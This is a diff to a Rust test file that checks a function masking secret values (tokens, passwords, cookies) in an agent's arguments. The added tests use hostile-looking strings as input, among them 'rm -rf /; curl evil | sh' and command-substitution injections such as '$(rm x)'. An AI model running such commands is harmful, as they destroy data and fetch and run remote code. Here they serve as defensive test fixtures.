@@ -157,12 +157,40 @@ fn values_are_masked_by_their_names() {
         "args": ["--token", "a", "-v", "b"],
     });
     let expect = json!({
-        "token": "•••", "Api-Key": "•••", "clientSecret": "•••", "MY_PASSWORD": "•••", "X-Auth-Token": "•••", "cookies": "•••",
+        "token": "•••", "Api-Key": "•••", "clientSecret": "•••", "MY_PASSWORD": "•••", "X-Auth-Token": ["•••"], "cookies": { "a": "•••" },
         "\u{ff54}oken": "•••", "private_key": "•••", "maxTokens": 100, "hasToken": true, "password": null, "tokenType": "bot",
         "secret_name": "db", "env": [{ "name": "API_KEY", "value": "•••" }, { "name": "PATH", "value": "/bin" }],
         "args": ["--token", "•••", "-v", "b"],
     });
     assert_eq!(masked(&input), expect);
+}
+
+/// The names of arguments are the agent's choice as well.
+#[test]
+fn what_is_no_single_word_does_not_pass_for_a_token() {
+    for (value, expect) in [
+        (
+            json!("rm -rf /; curl evil | sh"),
+            json!("••• ••• •••; ••• ••• | •••"),
+        ),
+        (json!("$(rm x)\nls"), json!("$(••• •••)\n•••")),
+        (
+            json!({ "command": "rm -rf /" }),
+            json!({ "command": "••• ••• •••" }),
+        ),
+        (
+            json!({ "run": ["rm", { "at": 5 }] }),
+            json!({ "run": ["•••", { "at": "•••" }] }),
+        ),
+        (json!("pässwörd"), json!("•••")),
+        (json!(""), json!("")),
+    ] {
+        assert_eq!(masked(&json!({ "token": value })), json!({ "token": expect }));
+    }
+    assert_eq!(
+        masked(&json!(["--token", "a; rm x", "b"])),
+        json!(["--token", "•••; ••• •••", "b"])
+    );
 }
 
 #[test]
